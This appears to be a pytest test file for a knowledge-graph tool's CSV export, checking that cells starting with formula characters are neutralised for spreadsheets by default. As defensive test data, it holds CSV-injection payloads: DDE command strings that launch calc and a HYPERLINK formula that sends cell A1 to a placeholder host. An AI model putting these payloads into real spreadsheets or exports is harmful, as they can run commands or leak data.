"""CSV meant for spreadsheets (issue 25): a cell that a spreadsheet would run as a formula (it
begins with = + - @, a tab or a carriage return) is written with a leading ' by default, as
OWASP recommends; `--csv-exact` (``spreadsheet_safe=False``) writes values exactly. TSV is the
SPARQL TSV format, where every string is quoted, and is written exactly either way.

Before the fix every cell went out as it was, in `kg query --format csv` and in the tables of
`kg export --format csv`.
"""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from rdflib import Literal, URIRef

from kg.cli import main
from kg.pipeline import build
from kg.queries import format_result
from kg.store import QueryResult, open_store

PAYLOADS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1"]
HARMLESS = ["Nguyễn Văn An", "-5", "+3.5", "1e-3", "a=b", " =1", "'quoted"]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def result() -> QueryResult:
    cells = [Literal(p) for p in PAYLOADS + HARMLESS] + [URIRef("https://w3id.org/kg-vn/id/x")]
    return QueryResult.select(["v"], [(c,) for c in cells])


def test_format_result_neutralises_formula_cells_in_csv_by_default() -> None:
    out = io.StringIO()
    format_result(result(), "csv", out)
    values = [r[0] for r in rows(out.getvalue())[1:]]
    assert values == ["'" + p for p in PAYLOADS] + HARMLESS + ["https://w3id.org/kg-vn/id/x"]


def test_format_result_writes_exact_values_when_asked() -> None:
    out = io.StringIO()
    format_result(result(), "csv", out, spreadsheet_safe=False)
    assert [r[0] for r in rows(out.getvalue())[1:]] == PAYLOADS + HARMLESS + ["https://w3id.org/kg-vn/id/x"]


@pytest.mark.parametrize("safe", [True, False])
def test_tsv_is_exact_and_quotes_every_string(safe: bool) -> None:
    out = io.StringIO()
    format_result(result(), "tsv", out, spreadsheet_safe=safe)
    cells = out.getvalue().split("\n")[1:-1]
    assert cells[0] == '"=HYPERLINK(\\"http://x.invalid/?\\"&A1,\\"bấm\\")"'
    assert all(c.startswith(('"', "<")) for c in cells)


@pytest.fixture(scope="module")
def store_dir(tmp_path_factory) -> Path:
    """A store with a document whose id and headline are formulas."""
    root = tmp_path_factory.mktemp("csv")
    text = ("=HYPERLINK(\"http://x.invalid\",\"Hội nghị\")\n\n14/6/2024 08:00\n\n"
            "Sáng 14/6, Ban Chấp hành Đảng bộ tỉnh Hà Giang tổ chức Hội nghị lần thứ 15, khóa XVII. "
            "Đồng chí Nguyễn Mạnh Dũng, Bí thư Tỉnh ủy chủ trì Hội nghị.")
    (root / "in.jsonl").write_text(json.dumps({"id": "=cmd|' /C calc'!A0", "text": text}, ensure_ascii=False) + "\n",
                                   encoding="utf-8")
    with open_store(root / "store") as store:
        report = build([root / "in.jsonl"], store)
    assert report.read == ["=cmd|' /C calc'!A0"]
    return root / "store"


def test_kg_query_csv_is_spreadsheet_safe_unless_csv_exact(store_dir: Path) -> None:
    runner = CliRunner()
    safe = runner.invoke(main, ["query", "persons", "--format", "csv", "--store", str(store_dir)])
    exact = runner.invoke(main, ["query", "persons", "--format", "csv", "--csv-exact", "--store", str(store_dir)])
    assert safe.exit_code == 0 and exact.exit_code == 0, safe.output + exact.output
    safe_rows, exact_rows = rows(safe.stdout), rows(exact.stdout)
    assert safe_rows[0] == exact_rows[0] == ["name", "doc", "quote"]
    assert [r[1] for r in exact_rows[1:]] == ["=cmd%7C'%20/C%20calc'!A0"]  # the graph's name: its IRI form
    assert [r[1] for r in safe_rows[1:]] == ["'=cmd%7C'%20/C%20calc'!A0"]
    assert [r[0] for r in safe_rows[1:]] == [r[0] for r in exact_rows[1:]] == ["Nguyễn Mạnh Dũng"]


def test_kg_export_csv_tables_are_spreadsheet_safe_unless_csv_exact(store_dir: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    for flags, expected in (([], "'=cmd%7C'%20/C%20calc'!A0"), (["--csv-exact"], "=cmd%7C'%20/C%20calc'!A0")):
        out = tmp_path / ("exact" if flags else "safe")
        done = runner.invoke(main, ["export", "--format", "csv", "--out", str(out), "--store", str(store_dir), *flags])
        assert done.exit_code == 0, done.output
        table = rows((out / "persons.csv").read_text(encoding="utf-8"))
        assert [r[1] for r in table[1:]] == [expected]
        for name in ("persons.csv", "positions.csv", "sessions.csv", "decisions.csv", "citations.csv"):
            for row in rows((out / name).read_text(encoding="utf-8"))[1:]:
                formulas = [c for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not c[1:2].isdigit()]
                assert bool(formulas) == bool(flags), (name, row)
